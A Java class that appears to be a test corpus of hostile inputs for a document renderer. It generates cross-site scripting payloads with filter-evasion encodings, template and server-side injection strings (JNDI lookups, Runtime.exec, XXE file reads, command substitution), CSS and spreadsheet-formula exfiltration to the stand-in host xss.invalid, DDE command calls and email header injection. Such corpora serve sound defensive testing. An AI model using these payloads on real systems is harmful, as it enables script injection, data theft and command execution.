package id.netral.document;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Texts that would run, load or calculate something if any place took them for more than text. Made from vectors: what is
 * called, how it is hidden, and what carries it. When run they set {@code window.__xss}, open a dialog, or ask
 * {@code xss.invalid} for something.
 */
public final class Payloads {

    private static final List<String> CALLS =
            List.of("window.__xss=1", "alert(1)", "top['al'+'ert'](1)", "fetch('//xss.invalid/c')");

    private static final List<String> EVENTS = List.of(
            "onload",
            "onerror",
            "onclick",
            "onmouseover",
            "onfocus",
            "onblur",
            "oninput",
            "onchange",
            "onsubmit",
            "onwheel",
            "ontoggle",
            "onbeforetoggle",
            "onanimationstart",
            "onanimationend",
            "ontransitionend",
            "onpointerenter",
            "onpointerdown",
            "onkeydown",
            "oncopy",
            "onpaste",
            "ondrag",
            "ondrop",
            "oncanplay",
            "onloadstart",
            "onseeked",
            "onscroll",
            "onscrollend",
            "onbegin",
            "onend",
            "onrepeat",
            "onhashchange",
            "onpageshow",
            "onmessage",
            "onresize",
            "onselectstart",
            "oncuechange",
            "onsecuritypolicyviolation",
            "oncontentvisibilityautostatechange");

    private static final List<String> CARRIERS = List.of(
            "<img src=x %s=%s>",
            "<svg %s=%s></svg>",
            "<details open %s=%s><summary>x</summary></details>",
            "<video src=x autoplay %s=%s></video>",
            "<x tabindex=1 autofocus %s=%s>x</x>");

    private static final List<String> TAGS = List.of(
            "<script>%s</script>",
            "<script src=//xss.invalid/s.js></script>",
            "<scr\u0000ipt>%s</script>",
            "<script\n>%s</script\n>",
            "<iframe srcdoc='<script>%s</script>'></iframe>",
            "<iframe src=\"javascript:%s\"></iframe>",
            "<object data=\"javascript:%s\"></object>",
            "<embed src=\"javascript:%s\">",
            "<form action=\"javascript:%s\"><button>x</button></form>",
            "<button formaction=\"javascript:%s\">x</button>",
            "<base href=\"javascript:%s//\">",
            "<link rel=import href=\"data:text/html,<script>%s</script>\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
            "<math><a xlink:href=\"javascript:%s\">x</a></math>",
            "<svg><script>%s</script></svg>",
            "<svg><a href=\"javascript:%s\"><text y=9>x</text></a></svg>",
            "<svg><animate xlink:href=#x attributeName=href values=\"javascript:%s\"/><a id=x><text y=9>x</text></a></svg>",
            "<svg><set attributeName=onmouseover to=\"%s\"/></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='%s'/>#x\"/></svg>",
            "<svg><foreignObject><body onload=\"%s\"></foreignObject></svg>",
            "<svg><handler type=\"text/javascript\" ev:event=load>%s</handler></svg>",
            "<template><script>%s</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\"></noscript>",
            "<style><img src=x onerror=%s></style>",
            "<textarea><img title=\"</textarea><img src=x onerror=%s>\"></textarea>",
            "<math><mtext><table><mglyph><style><img src=x onerror=%s></style></mglyph></table></mtext></math>",
            "<svg></p><style><g title=\"</style><img src=x onerror=%s>\">",
            "<!--><img src=x onerror=%s>-->",
            "<![CDATA[<img src=x onerror=%s>]]>",
            "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">%s</x:script>",
            "<portal src=\"javascript:%s\"></portal>",
            "<a href=x ping=//xss.invalid/p onclick=%s>x</a>",
            "<div popover id=x onbeforetoggle=%s>x</div><button popovertarget=x>y</button>",
            "<input type=image src=x onerror=%s>",
            "<dialog open oncancel=%s>x</dialog>",
            "<body background=//xss.invalid/b onload=%s>");

    private static final List<String> ADDRESSES = List.of(
            "javascript:%s",
            "JaVaScRiPt:%s",
            " javascript:%s",
            "\u0001javascript:%s",
            "java\tscript:%s",
            "java\nscript:%s",
            "javascript&colon;%s",
            "&#106;avascript:%s",
            "&#x6A;avascript:%s",
            "&#0000106avascript:%s",
            "j&#97v&#97script&#x3A;%s",
            "javascript&#9;:%s",
            "jav&#x09;ascript:%s",
            "jav&#x0A;ascript:%s",
            "javascript:/*--></title></style>*/%s",
            "javascript://%%0A%s",
            "%%6aavascript:%s",
            "vbscript:%s",
            "livescript:%s",
            "feed:javascript:%s",
            "view-source:javascript:%s",
            "data:text/html,<script>%s</script>",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==%s",
            "data:image/svg+xml,<svg onload=%s>",
            "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>%s</x:script>",
            "//xss.invalid/%s",
            "\\\\xss.invalid\\%s",
            "/\\xss.invalid/%s",
            "https://xss.invalid/%s",
            "pasal:javascript:%s",
            "istilah:\"onclick=%s",
            "pasal:../../x\"onclick=\"%s",
            "images/x.png\" onerror=\"%s",
            "media/x.pdf#javascript:%s",
            "\uFF4Aavascript:%s",
            "javascript\u2028:%s");

    private static final List<String> LINKS = List.of("[x](%s)", "![x](%s)", "<%s>");

    private static final List<String> MARKDOWN = List.of(
            "[x][y]\n\n[y]: javascript:alert(1)",
            "[x]: javascript:alert(1)\n\n[x]",
            "![x][y]\n\n[y]: //xss.invalid/a.png",
            "[x](<javascript:alert(1)>)",
            "[x](javascript:alert(1) \"judul\")",
            "[x](pasal:uu-20-2023-2 \"\\\" onclick=alert(1)\")",
            "[a](pasal:uu-20-2023-2)<img src=x onerror=alert(1)>",
            "![a\" onerror=\"alert(1)](images/x.png)",
            "![`<img src=x onerror=alert(1)>`](x)",
            "```html\n<script>window.__xss=1</script>\n```",
            "```\"><script>window.__xss=1</script>\nx\n```",
            "~~~video\nsrc: javascript:alert(1)\n~~~",
            "```kasus\nsituation: <script>alert(1)</script>\n```",
            "    <script>window.__xss=1</script>",
            "> [!INGAT\"><script>alert(1)</script>]\n> x",
            "> [!KUTIPAN] <img src=x onerror=alert(1)>",
            "| <script>alert(1)</script> |\n|---|\n| \"onclick=alert(1) |",
            "\\<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;window.__xss=1&#60;/script&#62;",
            "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
            "<script\n\n>alert(1)</script\n\n>",
            "*<b onclick=alert(1)*x</b>",
            "**[x](javascript:alert(1))**",
            "<!-- --!><img src=x onerror=alert(1)>",
            "---\ntitle: <script>alert(1)</script>\n---",
            "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
            "{onclick=alert(1)}",
            "# x {#id onmouseover=alert(1)}",
            ":::script\nalert(1)\n:::",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://xss.invalid/\"]]]]",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "\\x3cimg src=x onerror=alert(1)\\x3e",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\u202E>tpircs/<)1(trela>tpircs<",
            "<\u200Bscript>alert(1)</script>",
            "\uD800<script>alert(1)</script>");

    private static final List<String> TEMPLATES = List.of(
            "{{7*7}}",
            "{{constructor.constructor('window.__xss=1')()}}",
            "{{$on.constructor('alert(1)')()}}",
            "${7*7}",
            "${alert(1)}",
            "#{7*7}",
            "*{7*7}",
            "@{7*7}",
            "~{7*7}",
            "[[${7*7}]]",
            "[(${7*7})]",
            "<%= 7*7 %>",
            "<% alert(1) %>",
            "{% debug %}",
            "{%raw%}{{7*7}}{%endraw%}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{T(java.lang.System).getenv()}",
            "${jndi:ldap://xss.invalid/a}",
            "${${lower:j}ndi:ldap://xss.invalid/a}",
            "${env:PATH}",
            "__${7*7}__::.x",
            "{0}",
            "{nama}",
            "%s%n%x",
            "$(id)",
            "`id`",
            "; ls",
            "' OR '1'='1",
            "<#assign x=7*7>${x}",
            "#set($x=7*7)$x",
            "@(7*7)",
            "<xsl:value-of select=\"system-property('x')\"/>",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
            "<!--#exec cmd=\"id\"-->",
            "<?php echo 1; ?>",
            "{{=<% %>=}}<%& x %>",
            "{!7*7!}",
            "#{alert`1`}");

    private static final List<String> STYLES = List.of(
            "<style>@import '//xss.invalid/c.css';</style>",
            "<style>*{background:url(//xss.invalid/b)}</style>",
            "<p style=background:url(//xss.invalid/b)>x</p>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p style=width:expression(alert(1))>x</p>",
            "<p style=-moz-binding:url(//xss.invalid/x)>x</p>",
            "<p style=\"position:fixed;inset:0;z-index:9\">x</p>",
            "<div style=behavior:url(x.htc)>x</div>",
            "<link rel=stylesheet href=//xss.invalid/c.css>",
            "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>",
            "</style><script>alert(1)</script>",
            "x{}*{content:url(//xss.invalid/b)}",
            "<font color=red face=\"x;background:url(//xss.invalid/b)\">x</font>",
            "<table background=//xss.invalid/b><td background=javascript:alert(1)>x</table>",
            "<p class=\"v-overlay callout\" id=outlet>x</p>",
            "<style>input[value^=a]{background:url(//xss.invalid/a)}</style>");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=CMD|'/C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-1+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://xss.invalid/?x=\"&A1,\"buka\")",
            "=WEBSERVICE(\"http://xss.invalid/\"&A1)",
            "=IMPORTXML(CONCAT(\"http://xss.invalid/\",A1),\"//a\")",
            "=IMAGE(\"https://xss.invalid/i.png\")",
            "=DDE(\"cmd\";\"/C calc\";\"1\")",
            "=EXEC(\"calc\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "'=1+1",
            "\"=1+1",
            ";=1+1",
            "|=1+1",
            "%0A=1+1",
            "_x003D_1+1",
            "\uFF1D1+1",
            "=IFERROR(1/0,WEBSERVICE(\"//xss.invalid\"))",
            "@HYPERLINK(\"javascript:alert(1)\")",
            "=RTD(\"x\",,\"y\")",
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://xss.invalid/x\",\"x\",0,0)",
            "-2+3+cmd|' /C calc'!A0",
            "+(1)",
            "=@A1");

    private static final List<String> HEADERS = List.of(
            "x\r\nBcc: korban@xss.invalid",
            "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
            "=?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E?=",
            "x%0D%0ABcc: a@xss.invalid");

    private Payloads() {}

    /** All of them, each once. */
    public static List<String> all() {
        var all = new LinkedHashSet<String>();
        tags().forEach(all::add);
        events().forEach(all::add);
        addresses().forEach(all::add);
        Stream.of(MARKDOWN, TEMPLATES, STYLES, FORMULAS, HEADERS)
                .flatMap(List::stream)
                .forEach(all::add);
        breakouts(all).forEach(all::add);
        collected().forEach(all::add);
        return List.copyOf(all);
    }

    /** Those written down by hand, one a line. */
    private static Stream<String> collected() {
        try (var file = Objects.requireNonNull(Payloads.class.getResourceAsStream("/hostile-texts.txt"))) {
            return new String(file.readAllBytes(), StandardCharsets.UTF_8).lines().toList().stream();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Stream<String> tags() {
        return mixed(TAGS, CALLS);
    }

    private static Stream<String> events() {
        return Stream.iterate(0, i -> i < EVENTS.size(), i -> i + 1)
                .map(i -> CARRIERS.get(i % CARRIERS.size()).formatted(EVENTS.get(i), CALLS.get(i % CALLS.size())));
    }

    private static Stream<String> addresses() {
        return LINKS.stream().flatMap(link -> mixed(ADDRESSES, CALLS).map(link::formatted));
    }

    /** Each carrier once, with the calls in turn. */
    private static Stream<String> mixed(List<String> carriers, List<String> calls) {
        return Stream.iterate(0, i -> i < carriers.size(), i -> i + 1)
                .map(i -> carriers.get(i).formatted(calls.get(i % calls.size())));
    }

    /** Ways out of what a text might have been put into. */
    private static Stream<String> breakouts(Set<String> known) {
        var inner =
                List.of("<script>window.__xss=1</script>", "<img src=x onerror=alert(1)>", " onmouseover=alert(1) x=");
        return Stream.of(
                        "\">",
                        "'>",
                        "\"'>",
                        "</p>",
                        "</a>",
                        "</title>",
                        "</textarea>",
                        "</script>",
                        "</style>",
                        "</iframe>",
                        "</xmp>",
                        "-->",
                        "]]>",
                        "\\\">",
                        "`>",
                        "&quot;>")
                .flatMap(way -> inner.stream().map(way::concat))
                .filter(payload -> !known.contains(payload));
    }
}
